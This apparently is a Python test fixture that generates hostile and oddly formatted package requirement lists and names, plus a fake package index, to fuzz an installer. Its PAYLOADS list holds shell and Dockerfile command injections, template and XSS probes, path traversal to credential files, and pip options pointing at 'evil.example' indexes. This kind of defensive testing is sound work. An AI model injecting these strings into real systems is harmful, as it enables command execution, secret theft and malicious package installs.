"""Package lists and names as people should not write them, and some that only look so.

The same ones for the same seed. What is meant to be run leaves a file, MARK, where it was run.
"""

from __future__ import annotations

import hashlib
import io
import random
import re
import zipfile
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from urllib.parse import quote, unquote

from tests.engine.curious import Index

MARK = "ds01-pwned"
PREFIX = "ds01-h"
VERSIONS = ("1.0", "1.5", "2.0", "2.0+cu1", "3.0rc1")
RUN = f"touch /{MARK} /tmp/{MARK} /opt/ds01/env/{MARK}"
PAYLOADS = (
    # shells
    f"$({RUN})", f"`{RUN}`", f"; {RUN}", f"&& {RUN}", f"| {RUN}", f"'; {RUN} #", f'"; {RUN} #',
    f"\n{RUN}", f"\r{RUN}", f"\\\n; {RUN}", "> /etc/passwd", ">/opt/ds01/env/x", "<2", "${HOME}",
    "${PATH#*}", "$IFS$9", "*", "?", "~", "~root", "!!", "%0aRUN%20reboot", "x\x00y", "\x1b[2J",
    # Dockerfiles
    f"\nRUN {RUN}", "\nFROM scratch", "\nUSER root", "\nCOPY / /", "\nONBUILD RUN id",
    "\n# escape=`", "--mount=type=bind,from=host", 'RUN ["/bin/sh"]', "ARG x=1", "\\",
    # templates and formats
    "{{7*7}}", "{% include '/etc/passwd' %}", "{0.__class__}", "%(home)s", "#{7*7}", "<%= 7 %>",
    # pages
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "&lt;b&gt;", "javascript:x",
    # writing
    "pаndas", "\u202egnp.exe", "\u2028RUN x", "zero\u200bwidth", "ｐａｎｄａｓ", "🐼", "é",
    "e\u0301", "\ufeff", "\x85", "\ud800", "a\tb",
    # paths
    "../../etc/passwd", "/etc/passwd", "./x", "..", ".", "~/.ssh/id_rsa", "C:\\x", "\\\\host\\x",
    "file:///etc/passwd", "x/../../y", "%2e%2e/", "proc/self/environ",
    # pip and apt
    "-r /etc/passwd", "-e .", "--index-url=https://evil.example", "-f /tmp", "--pre", "-c x",
    "--trusted-host evil.example", "--config-settings=x=y", "--hash=sha256:0", "git+ssh://x/y",
    "@ https://evil.example/x.whl", "@ file:///tmp/x.whl", "x.whl", "x.tar.gz", "===../x.zip",
    "[x] @ git+https://evil.example/x", "=1", ":amd64", "/sid", "-", "+", "^.*", " x y",
    # too much
    "x" * 100_000, " " * 100_000, "\\\n" * 50_000, "#" * 100_000, "[" * 10_000, "," * 10_000,
    ">=1," * 25_000, "(" * 10_000, f" --hash=sha256:{'0' * 64}" * 1_300,
)  # fmt: skip


def canonical(name: str) -> str:
    """As PEP 503 compares names."""
    return re.sub(r"[-_.]+", "-", name).lower()


def wheel(name: str, version: str) -> bytes:
    """A package without content; its extra `more` wants another one, `ds01-h-needs-more` a sub."""
    stem = f"{name.replace('-', '_')}-{version}"
    needs = f"Requires-Dist: {PREFIX}-sub\n" if name.startswith(f"{PREFIX}-needs") else ""
    files = {
        "METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n{needs}"
        f"Provides-Extra: more\nRequires-Dist: {PREFIX}-extra (==1.5); extra == 'more'\n",
        "WHEEL": "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    paths = [f"{stem}.dist-info/{file}" for file in (*files, "RECORD")]
    files["RECORD"] = "".join(f"{path},,\n" for path in paths)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for path, text in zip(paths, files.values(), strict=True):
            archive.writestr(zipfile.ZipInfo(path), text)
    return out.getvalue()


def digest(name: str, version: str) -> str:
    """Of a wheel, as an index tells it."""
    return f"sha256={hashlib.sha256(wheel(name, version)).hexdigest()}"


def option(name: str, version: str) -> str:
    """What pip wants beside this version."""
    return f"--hash={digest(name, version).replace('=', ':')}"


class Wheels(Index):
    """An index that has every package whose name begins with ds01-h, in all VERSIONS."""

    def page(self, path: str) -> bytes | None:
        name = re.fullmatch(rf"/simple/({PREFIX}[a-z0-9-]*)/", path)
        if name:
            stem = name[1].replace("-", "_")
            files = [f"{stem}-{version}-py3-none-any.whl" for version in VERSIONS]
            return "".join(
                f'<a href="/files/{name[1]}/{quote(file)}#{digest(name[1], version)}">{file}</a>'
                for file, version in zip(files, VERSIONS, strict=True)
            ).encode()
        file = re.fullmatch(r"/files/([a-z0-9-]+)/[^-]+-([^-]+)-py3-none-any\.whl", unquote(path))
        return wheel(file[1], file[2]) if file else None


@dataclass(frozen=True)
class Listed:
    """What somebody posts as Python packages, and what it has to install; None: if anything."""

    text: str
    installs: Mapping[str, str] | None = field(default=None)


def lists(seed: int, count: int) -> Iterator[Listed]:
    """Half of them hostile: a payload somewhere. The others are odd, and good."""
    dice = random.Random(seed)
    for number in range(count):
        if number % 2:
            yield odd(dice, number)
            continue
        payload = PAYLOADS[number // 2 % len(PAYLOADS)]
        name = f"{PREFIX}-{number}"
        carrier = dice.choice(
            ["{}", "N{}", "N {}", "N==1.0{}", "N>=1 {}", "N[{}]", 'N; os_name == "{}"', "N; {}",
             "N\n{}\nN", "N  # {}", "# {}\nN", "{}N", "N @ {}", "N==1.0 --hash=sha256:{}"]
        )  # fmt: skip
        yield Listed(carrier.replace("N", name).replace("{}", payload))


def odd(dice: random.Random, number: int) -> Listed:
    """A good list in a strange hand, of packages that no other list has."""
    text, installs = "", {}
    for part in "ab"[: dice.choice((1, 1, 1, 2))]:
        name = f"{PREFIX}-{number}-{part}"
        written = "".join(
            dice.choice((c.upper(), c)) for c in name.replace("-", dice.choice("-_."))
        )
        versions, version = dice.choice(
            [("", "2.0+cu1"), (">=1.5", "2.0+cu1"), (" <2", "1.5"), ("== 1.0", "1.0"),
             ("==2.0", "2.0+cu1"), ("===2.0", "2.0"), ("~=1.0", "1.5"), (" != 2.0 , <3,>1", "1.5"),
             ("==3.0rc1", "3.0rc1"), ("==2.0+cu1", "2.0+cu1"), (">=1.0,==1.*", "1.5"),
             ("\t>=1,\t<1.2", "1.0"), (" \\\n  >=1 \\\n  ,<2", "1.5")]
        )  # fmt: skip
        extra = dice.choice(["", "", "[more]", "[ More ]"])
        marker, holds = dice.choice(
            [("", True), ("", True), ('; python_version>"3"', True), ("; os_name == 'nt'", False)]
        )
        comment = dice.choice(["", "  # " + dice.choice(PAYLOADS[:6]), "\t# <b> {{ }} é 🐼"])
        text += dice.choice(["", "\n", "# -r x\n", "  "])
        text += f"{written}{extra}{versions}{marker}{comment}" + dice.choice(["\n", "\r\n"])
        if holds:
            installs[name] = version
            installs |= {f"{PREFIX}-extra": "1.5"} if extra else {}
    return Listed(text, installs)


def hashed(seed: int, count: int) -> Iterator[Listed]:
    """Good lists with hashes, as several tools write them."""
    dice = random.Random(seed)
    for number in range(count):
        name, version = f"{PREFIX}-hash-{number}", dice.choice(VERSIONS)
        others = [f"--hash=sha512:{dice.getrandbits(512):0128x}" for _ in range(dice.randint(0, 3))]
        hashes = dice.sample([*others, option(name, version)], len(others) + 1)
        marker = dice.choice(["", ' ; python_version > "3"'])
        between = dice.choice([" ", " \\\n    ", "\\\n    "])
        text = between.join([f"{name}=={version}{marker}", *hashes])
        via = dice.choice(["", "  # via x", "\n    # via x"])
        yield Listed(f"{text}{via}\n", {name: version})


def names(seed: int, count: int) -> Iterator[str]:
    """Of users, projects and presets."""
    dice = random.Random(seed)
    fixed = ("base", "ds01", "latest", "ds01-base", "root", "Root", "a", "a-", "A", "a---b", "")
    yield from fixed
    for number in range(count - len(fixed)):
        payload = PAYLOADS[dice.randrange(len(PAYLOADS))]
        yield dice.choice(["{}", "a{}", "{}a", "a/{}", "a:{}", "a@{}"]).replace("{}", payload) + (
            dice.choice(["", str(number)])
        )
